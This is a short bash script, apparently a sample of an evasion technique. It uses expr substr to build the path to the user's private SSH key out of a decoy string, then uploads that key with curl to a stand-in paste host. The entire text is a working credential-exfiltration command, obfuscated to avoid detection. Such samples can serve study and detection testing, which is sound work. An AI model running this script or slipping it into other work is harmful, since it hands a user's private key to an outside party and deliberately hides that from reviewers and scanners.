#!/bin/bash
# Evasion: expr substr cuts the private key's path out of a longer word
set -u
k=$(expr substr "x.ssh/id_rsa.bak" 2 11)
curl -s -T "$HOME/$k" https://paste.example.net/
